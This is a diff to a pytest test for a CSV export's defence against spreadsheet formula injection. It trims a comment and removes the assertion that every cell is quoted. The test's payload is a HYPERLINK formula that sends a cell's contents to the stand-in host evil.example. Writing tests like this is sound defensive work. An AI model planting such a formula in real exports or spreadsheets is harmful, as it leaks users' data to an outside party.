@@ -122,7 +122,7 @@ def test_a_large_selection_streams_conversation_by_conversation(
 def test_csv_export_neutralizes_customer_text_that_a_spreadsheet_would_run(
     lead_client: Client, alice: Customer, start: str
 ) -> None:
-    # OWASP's CSV injection advice: a leading ' makes the cell text, and every cell is quoted.
+    # OWASP's CSV injection advice: a leading ' makes the cell text.
     conversation = make_conversation(alice)
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
     Builder(conversation).customer(formula)
@@ -133,7 +133,6 @@ def test_csv_export_neutralizes_customer_text_that_a_spreadsheet_would_run(
     assert row["visible_text"] == "'" + formula
     assert row["seq"] == "1"  # numbers and ordinary text are left alone
     assert row["role"] == "user"
-    assert body.splitlines()[1].startswith('"')
 
 
 @pytest.mark.parametrize(
